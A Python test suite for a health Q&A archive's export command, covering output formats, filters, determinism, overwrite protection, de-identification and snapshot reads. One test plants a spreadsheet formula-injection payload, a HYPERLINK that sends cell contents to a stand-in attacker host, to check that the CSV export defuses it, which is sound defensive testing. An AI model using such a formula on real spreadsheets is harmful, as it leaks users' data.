"""``healthqa export`` end to end: formats, filters, determinism, overwrite, de-identification."""

from __future__ import annotations

import csv
import dataclasses
import gc
import hashlib
import json
import tracemalloc
from collections.abc import Callable, Iterator
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner, Result
from research_data import Built, _capture, build_archive, make_record
from research_warc import append_response

from crawler.cli import cli
from storage import Archive
from storage.research.export_rows import QUESTION_SCHEMA, iter_question_rows
from storage.search import SearchFilters


def run_export(built: Built, out: Path, *args: str) -> Result:
    where = ["--db", built.db_url, "--data-dir", str(built.data_dir)]
    return CliRunner().invoke(cli, ["export", "--out", str(out), *where, *args])


def manifest_of(out: Path) -> dict:
    return json.loads(out.with_name(out.name + ".manifest.json").read_text())


def test_jsonl_holds_every_question_in_page_order_with_nesting(
    built: Built, tmp_path: Path
) -> None:
    out = tmp_path / "all.jsonl"
    result = run_export(built, out, "--format", "jsonl")
    assert result.exit_code == 0, result.output
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    assert [r["url"] for r in rows] == [r.url for r in built.records]
    assert [r["page_id"] for r in rows] == sorted(r["page_id"] for r in rows)
    by_url = {r.url: r for r in built.records}
    for row in rows:
        record = by_url[row["url"]]
        assert row["question_body"] == record.question_body
        assert row["asker_name"] == record.asker.name
        assert [a["body"] for a in row["answers"]] == [a.body for a in record.answers]
        assert [a["doctor"] for a in row["answers"]] == [a.doctor_name for a in record.answers]
        assert row["answer_count"] == len(record.answers)
        assert [link["kind"] for link in row["links"]] == ["similar", "related_faq"]
        assert row["explanation_headings"] == list(record.explanation.headings)
    manifest = manifest_of(out)
    assert manifest["rows"] == len(built.records)
    assert manifest["parser_versions"] == ["test-1"]
    assert len(manifest["crawl_runs"]) == 1
    asked = sorted(r.asked_on for r in built.records)
    assert manifest["time_range"] == {"column": "asked_on", "min": asked[0], "max": asked[-1]}


def test_parquet_has_real_types_and_csv_flattens(built: Built, tmp_path: Path) -> None:
    parquet, table_csv = tmp_path / "q.parquet", tmp_path / "q.csv"
    assert run_export(built, parquet, "--format", "parquet").exit_code == 0
    assert run_export(built, table_csv, "--format", "csv").exit_code == 0
    table = pq.read_table(parquet)
    assert table.num_rows == len(built.records)
    assert table.schema.field("asked_on").type == pa.date32()
    answers_type = table.schema.field("answers").type
    assert pa.types.is_list(answers_type) and pa.types.is_struct(answers_type.value_type)
    with table_csv.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == list(QUESTION_SCHEMA.names)
    first = json.loads(rows[0]["answers"])
    assert [a["body"] for a in first] == [a.body for a in built.records[0].answers]


def test_same_filters_twice_give_identical_bytes(built: Built, tmp_path: Path) -> None:
    out = tmp_path / "gastro.parquet"
    args = ("--format", "parquet", "--department", "Gastroenterology")
    assert run_export(built, out, *args).exit_code == 0
    data, manifest = out.read_bytes(), manifest_of(out)
    assert run_export(built, out, *args, "--force").exit_code == 0
    assert out.read_bytes() == data
    assert manifest_of(out) == manifest
    gastro = [
        r for r in built.records if r.answers and r.answers[0].department == "Gastroenterology"
    ]
    assert manifest["rows"] == len(gastro) > 0
    assert manifest["filters"] == {"department": "Gastroenterology"}


def test_filters_match_search_semantics(built: Built, tmp_path: Path) -> None:
    out = tmp_path / "f.jsonl"
    result = run_export(
        built, out, "--format", "jsonl", "--unanswered", "--since", "2023-02-01", "--sex", "male"
    )
    assert result.exit_code == 0, result.output
    urls = [json.loads(line)["url"] for line in out.read_text().splitlines()]
    expected = [
        r.url
        for r in built.records
        if not r.answers and r.asked_on >= "2023-02-01" and r.asker.sex == "male"
    ]
    assert urls == expected
    assert manifest_of(out)["filters"] == {
        "answered": False,
        "asked_from": "2023-02-01",
        "asker_sex": "male",
    }


def test_refuses_to_overwrite_without_force(built: Built, tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    out.write_text("precious")
    result = run_export(built, out, "--format", "csv")
    assert result.exit_code == 1
    assert "--force" in result.output
    assert out.read_text() == "precious"
    assert not out.with_name("x.csv.manifest.json").exists()


def test_contradictory_filters_exit_2(built: Built, tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    result = run_export(built, out, "--format", "csv", "--age-min", "50", "--age-max", "20")
    assert result.exit_code == 2
    assert "age_min" in result.output
    assert not out.exists()


def test_deidentify_pseudonymises_and_scrubs(built: Built, tmp_path: Path) -> None:
    out = tmp_path / "deid.jsonl"
    result = run_export(built, out, "--format", "jsonl", "--deidentify")
    assert result.exit_code == 0, result.output
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    assert all("asker_name" not in r for r in rows)
    names = {r.url: r.asker.name for r in built.records}
    ids = {r["url"]: r["asker_id"] for r in rows}
    assert all(i.startswith("asker_") for i in ids.values())
    for a in names:  # same name -> same pseudonym, different names -> different ones
        for b in names:
            assert (names[a] == names[b]) == (ids[a] == ids[b])
    second = next(r for r in rows if r["url"].endswith("/200002"))
    assert "[EMAIL]" in second["question_body"] and "[PHONE]" in second["question_body"]
    assert "example.com" not in out.read_text()
    assert (built.data_dir / "deidentify.key").stat().st_mode & 0o077 == 0
    settings = manifest_of(out)["deidentification"]
    assert "answers.body" in settings["scrubbed_columns"]


def test_row_stream_holds_one_batch_not_the_archive(fresh: Built) -> None:
    """Streaming 250 questions in batches of 10 allocates far less than holding them all.

    Both are measured after a warm-up pass, so compiled-statement caches do not count; what
    is left grows with the rows a stream keeps alive at once.
    """
    build_archive(fresh.archive, fresh.data_dir, first=1 + len(fresh.records), count=228)
    engine = fresh.archive.engine

    def peak(consume: Callable[[Iterator[dict]], object]) -> int:
        gc.collect()
        tracemalloc.start()
        consume(iter_question_rows(engine, batch=10))
        _, top = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return top

    def stream(rows: Iterator[dict]) -> int:
        return sum(1 for _ in rows)

    assert stream(iter_question_rows(engine, batch=10)) == 240
    streamed, held = peak(stream), peak(list)
    assert streamed < held / 2, (streamed, held)


def test_filters_dataclass_and_cli_agree(built: Built) -> None:
    rows = list(iter_question_rows(built.archive.engine, SearchFilters(doctor="Wang Hao")))
    assert {r["url"] for r in rows} == {
        r.url for r in built.records if any(a.doctor_name == "Wang Hao" for a in r.answers)
    }


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_every_format_writes_a_manifest_with_the_sha256(
    built: Built, tmp_path: Path, fmt: str
) -> None:
    out = tmp_path / f"all.{fmt}"
    assert run_export(built, out, "--format", fmt).exit_code == 0
    files = manifest_of(out)["files"]
    assert files[0]["sha256"] == hashlib.sha256(out.read_bytes()).hexdigest()


def ingest_record(built: Built, record: object, n: int) -> None:
    """Archive one more record (its own WARC record and capture), as a crawl would."""
    warc = built.data_dir / "warc" / "extra.warc.gz"
    warc.parent.mkdir(parents=True, exist_ok=True)
    offset, length = append_response(warc, record.url, record.to_json().encode())
    run_id = built.archive.start_run(site="doctorqna", arguments={"test": True})
    built.archive.ingest(record, _capture(record.url, warc, offset, length, run_id, n))
    built.archive.finish_run(run_id, stats={}, outcome="finished")


@pytest.mark.parametrize("deidentify", [False, True], ids=["plain", "deidentified"])
def test_csv_export_neutralises_a_formula_title(
    fresh: Built, tmp_path: Path, deidentify: bool
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    record = dataclasses.replace(
        make_record(50),
        url="https://doctorqna.com/en/article/299999",
        canonical_url="https://doctorqna.com/en/article/299999",
        external_id="299999",
        question_title=formula,
        question_body="@SUM(1+1) call 0912-345-678",
    )
    ingest_record(fresh, record, 50)
    out = tmp_path / "q.csv"
    extra = ["--deidentify"] if deidentify else []
    result = run_export(fresh, out, "--format", "csv", *extra)
    assert result.exit_code == 0, result.output
    with out.open(newline="", encoding="utf-8") as fh:
        row = next(r for r in csv.DictReader(fh) if r["external_id"] == "299999")
    assert row["question_title"] == "'" + formula
    expected_body = "@SUM(1+1) call [PHONE]" if deidentify else "@SUM(1+1) call 0912-345-678"
    assert row["question_body"] == "'" + expected_body
    jsonl = tmp_path / "q.jsonl"
    assert run_export(fresh, jsonl, "--format", "jsonl", *extra).exit_code == 0
    rows = [json.loads(line) for line in jsonl.read_text(encoding="utf-8").splitlines()]
    assert next(r for r in rows if r["external_id"] == "299999")["question_title"] == formula


def test_export_removes_a_killed_exports_temp_file_and_says_so(
    built: Built, tmp_path: Path
) -> None:
    stale = tmp_path / ".old.parquet.0123456789ab.tmp"
    stale.write_bytes(b"\0" * 200_000)  # no process holds its lock: its export is dead
    out = tmp_path / "new.jsonl"
    result = run_export(built, out, "--format", "jsonl")
    assert result.exit_code == 0, result.output
    assert not stale.exists()
    assert "removed 1 temporary file(s) (0.2 MB)" in result.stderr
    assert "killed exports" in result.stderr


def test_export_reads_one_snapshot_while_a_crawl_writes(fresh: Built) -> None:
    """Rows after the writer's commits still show the archive as of the export's first read.

    The writer is another engine (its own connections, as a crawl process has) committing
    between two batches of the export: a new question and a new revision of a later one.
    """
    expected = list(iter_question_rows(fresh.archive.engine))
    rows = iter_question_rows(fresh.archive.engine, batch=3)
    first = next(rows)

    writer = Archive.open(fresh.db_url, data_dir=fresh.data_dir)
    try:
        later = fresh.records[-2]  # answered, and in the export's last batch
        revised = dataclasses.replace(later, question_body="Rewritten while exporting", answers=())
        added = dataclasses.replace(
            make_record(40),
            url="https://doctorqna.com/en/article/299998",
            canonical_url="https://doctorqna.com/en/article/299998",
            external_id="299998",
        )
        for n, record in enumerate((revised, added), start=200):
            ingest_record(Built(writer, fresh.data_dir, [], fresh.db_url), record, n)
        now = list(iter_question_rows(writer.engine))
    finally:
        writer.close()
    assert len(now) == len(expected) + 1, "the writer's commits are visible to a new export"

    exported = [first, *rows]
    assert exported == expected
    row = next(r for r in exported if r["url"] == later.url)
    assert row["question_body"] == later.question_body
    assert row["answer_count"] == len(later.answers) > 0
